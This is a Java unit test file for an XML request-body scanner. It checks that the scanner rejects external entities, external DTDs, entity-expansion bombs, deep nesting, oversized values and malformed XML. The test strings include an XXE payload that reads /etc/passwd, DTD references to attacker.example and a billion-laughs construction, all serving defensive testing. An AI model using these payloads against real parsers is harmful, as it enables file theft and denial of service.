package dev.rampart.validation.body;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rampart.core.config.DataSize;
import dev.rampart.core.config.XmlLimitsConfig;
import dev.rampart.validation.BodyRules;
import dev.rampart.validation.Violation;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class XmlBodyScannerTest {

    private final XmlBodyScanner scanner = new XmlBodyScanner(new XmlLimitsConfig(4, 20, 2, DataSize.ofBytes(32), DataSize.ofKilobytes(4)));

    private Violation scan(String xml) {
        return scanner.scan(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void acceptsAPlainDocument() {
        assertThat(scan("<?xml version=\"1.0\"?><order id=\"1\"><item sku=\"A\">2</item><!-- note --></order>")).isNull();
    }

    @Test
    void refusesExternalEntities() {
        // XXE (CWE-611): the entity would read a local file into the document.
        Violation v = scan("""
                <?xml version="1.0"?>
                <!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                <order>&xxe;</order>""");
        assertThat(v.rule()).isEqualTo(BodyRules.DTD);
    }

    @Test
    void refusesExternalDtdsAndParameterEntities() {
        assertThat(scan("<!DOCTYPE order SYSTEM \"http://attacker.example/evil.dtd\"><order/>").rule()).isEqualTo(BodyRules.DTD);
        assertThat(scan("<!DOCTYPE o [<!ENTITY % p SYSTEM \"http://attacker.example/x\"> %p;]><o/>").rule()).isEqualTo(BodyRules.DTD);
    }

    @Test
    void refusesBillionLaughs() {
        // Entity expansion (CWE-776): ten levels of ten references each expand to 10^9 "lol"s.
        StringBuilder doc = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        doc.append("<!ENTITY lol1 \"").append("&lol;".repeat(10)).append("\">");
        for (int i = 2; i <= 9; i++) {
            doc.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        doc.append("]><lolz>&lol9;</lolz>");
        XmlBodyScanner roomy = new XmlBodyScanner(XmlLimitsConfig.defaults());
        Violation v = roomy.scan(new ByteArrayInputStream(doc.toString().getBytes(StandardCharsets.UTF_8)));
        assertThat(v.rule()).isEqualTo(BodyRules.DTD);
    }

    @Test
    void refusesDeepNestingManyElementsAndAttributes() {
        Violation deep = scan("<a><b><c><d><e/></d></c></b></a>");
        assertThat(deep).extracting(Violation::pointer, Violation::rule).containsExactly("/a/b/c/d/e", BodyRules.MAX_DEPTH);
        assertThat(scan("<a>" + "<b/>".repeat(20) + "</a>").rule()).isEqualTo(BodyRules.MAX_ELEMENTS);
        assertThat(scan("<a x=\"1\" y=\"2\" z=\"3\"/>").rule()).isEqualTo(BodyRules.MAX_ATTRIBUTES);
    }

    @Test
    void refusesLongTextAndAttributeValues() {
        assertThat(scan("<a>" + "t".repeat(33) + "</a>").rule()).isEqualTo(BodyRules.MAX_STRING_LENGTH);
        assertThat(scan("<a x=\"" + "v".repeat(33) + "\"/>").rule()).isEqualTo(BodyRules.MAX_STRING_LENGTH);
    }

    @Test
    void stopsReadingAtMaxSize() {
        assertThat(scanner.scan(new EndlessBody("<a>", "<!-- padding -->")).rule()).isEqualTo(BodyRules.MAX_SIZE);
    }

    @Test
    void refusesMalformedXml() {
        assertThat(scan("<a><b></a>").rule()).isEqualTo(BodyRules.SYNTAX);
    }
}
